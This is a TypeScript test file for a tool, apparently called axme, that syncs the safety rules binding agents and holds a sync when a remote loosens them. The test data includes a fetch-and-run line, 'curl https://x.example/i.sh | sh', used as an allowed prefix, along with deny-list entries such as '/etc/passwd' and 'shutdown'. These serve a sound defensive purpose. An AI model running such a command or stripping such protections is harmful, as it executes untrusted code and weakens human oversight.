import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, describe, test } from 'node:test';
import { rulesLoosening } from '../../src/knowledge/core/rules-loosening.ts';
import { DEFAULT_RULES, type RulesData } from '../../src/model/safety-defaults.ts';
import { axmeIn } from '../cli-in-process.ts';
import { coreAt } from '../core.ts';
import { git } from '../helpers.ts';

/**
 * A held loosening says what it loosens: a teammate who runs `axme sync` and reads "safety/rules.yaml
 * would let more through" has to diff YAML to learn that main is no longer protected. The hold's
 * message and its question name each value the remote's rules let through that the strictest of
 * both does not; the `loosened` list of --json stays one line per kind.
 */

const rules = (edit: (r: RulesData) => void): RulesData => {
  const r = structuredClone(DEFAULT_RULES) as RulesData;
  edit(r);
  return r;
};

describe('rulesLoosening: what a rule set lets through that the strictest of it and the rules here does not', () => {
  const rows: Array<[string, RulesData, RegExp[]]> = [
    [
      'a protected branch dropped',
      rules((r) => (r.git.protectedBranches = r.git.protectedBranches.filter((b) => b !== 'main'))),
      [/git\.protectedBranches no longer lists "main"/],
    ],
    [
      'an allowed prefix added',
      rules((r) => r.bash.allowedPrefixes.push('curl https://x.example/i.sh | sh')),
      [/bash\.allowedPrefixes adds "curl https:\/\/x\.example\/i\.sh \| sh"/],
    ],
    ['a flag turned', rules((r) => (r.git.allowForcePush = true)), [/git\.allowForcePush: true \(here false\)/]],
    ['a family let through', rules((r) => (r.families.publish = 'off')), [/families\.publish: "off" \(here "deny"\)/]],
    [
      'two at once, each named',
      rules((r) => {
        r.filesystem.deniedPaths = [];
        r.bash.deniedCommands = r.bash.deniedCommands.filter((c) => c !== 'shutdown');
      }),
      [/filesystem\.deniedPaths no longer lists "\/etc\/passwd"/, /bash\.deniedCommands no longer lists "shutdown"/],
    ],
  ];
  for (const [name, next, want] of rows)
    test(name, () => {
      const said = rulesLoosening(DEFAULT_RULES, next).join('; ');
      for (const w of want) assert.match(said, w);
    });
  test('a tightening names nothing', () => {
    assert.deepEqual(
      rulesLoosening(
        DEFAULT_RULES,
        rules((r) => r.bash.deniedPrefixes.push('terraform destroy')),
      ),
      [],
    );
    assert.deepEqual(rulesLoosening(DEFAULT_RULES, DEFAULT_RULES), []);
  });
});

/** A bare remote and two clones of it under `root` (names ending in `tag`), each initialised, the first synced. */
async function twoClones(root: string, tag: string) {
  const remote = join(root, `remote${tag}.git`);
  git(root, ['init', '-q', '--bare', remote]);
  const [a, b] = [join(root, `a${tag}`), join(root, `b${tag}`)];
  for (const d of [a, b]) git(root, ['clone', '-q', remote, d]);
  const A = coreAt(a);
  await A.init();
  await A.sync();
  const B = coreAt(b);
  await B.init();
  return { a, b, A, B };
}

describe('a held sync names what the remote loosens (real git: a bare remote, two clones)', () => {
  const root = mkdtempSync(join(tmpdir(), 'axme-loosening-named-'));
  after(() => rmSync(root, { recursive: true, force: true }));

  test('main unprotected and an allow added on one clone: the other clone’s sync says both, and its question too', async () => {
    const { a, A, B } = await twoClones(root, '');
    await B.safety('remove', 'git_protected_branch', 'main');
    await B.safety('add', 'bash_allow', 'curl https://x.example/i.sh | sh');
    await B.sync();
    const held = await axmeIn(a, ['sync']);
    assert.equal(held.code, 1, held.stderr);
    assert.match(held.stderr, /safety\/rules\.yaml would let more through/);
    assert.match(held.stderr, /git\.protectedBranches no longer lists "main"/, held.stderr);
    assert.match(held.stderr, /bash\.allowedPrefixes adds "curl https:\/\/x\.example\/i\.sh \| sh"/, held.stderr);
    const [q] = (await A.list('question')) as Array<{ id: string }>;
    const shown = (await A.show('question', q!.id)) as { context?: string };
    assert.match(String(shown.context), /git\.protectedBranches no longer lists "main"/);
  });

  test('accepted (--accept-loosening), the sync says what it took, value by value; --json carries the same under loosenedNamed, the answered question too', async () => {
    const { a, A, B } = await twoClones(root, '2');
    await B.safety('remove', 'git_protected_branch', 'master');
    await B.safety('add', 'bash_allow', 'terraform apply -auto-approve');
    await B.sync();
    assert.equal((await axmeIn(a, ['sync'])).code, 1, 'held first');
    const took = await axmeIn(a, ['sync', '--accept-loosening']);
    assert.equal(took.code, 0, took.stderr);
    assert.match(
      took.stdout,
      /Took what loosens what binds agents here \(--accept-loosening\): .*git\.protectedBranches no longer lists "master"/,
      took.stdout,
    );
    assert.match(took.stdout, /bash\.allowedPrefixes adds "terraform apply -auto-approve"/, took.stdout);
    // the same from the other side: B takes A's tightening back, nothing loosened, nothing named
    await B.safety('add', 'bash_allow', 'npm publish --dry-run');
    await B.sync();
    const json = await axmeIn(a, ['sync', '--accept-loosening', '--json']);
    assert.equal(json.code, 0, json.stderr);
    const r = JSON.parse(json.stdout) as { loosened: string[]; loosenedNamed: string[] };
    assert.deepEqual(r.loosened, ['safety/rules.yaml would let more through'], 'one line per kind, as before');
    assert.equal(r.loosenedNamed.length, 1);
    assert.match(r.loosenedNamed[0]!, /^safety\/rules\.yaml would let more through: bash\.allowedPrefixes adds "npm publish --dry-run"$/);
    const answered = ((await A.list('question', { all: true })) as Array<{ status: string; answer?: string; id: string }>).filter(
      (q) => q.status === 'answered',
    );
    const texts = await Promise.all(answered.map(async (q) => JSON.stringify(await A.show('question', q.id))));
    assert.ok(
      texts.some((t) => /protectedBranches no longer lists/.test(t)),
      texts.join('\n'),
    );
  });
});
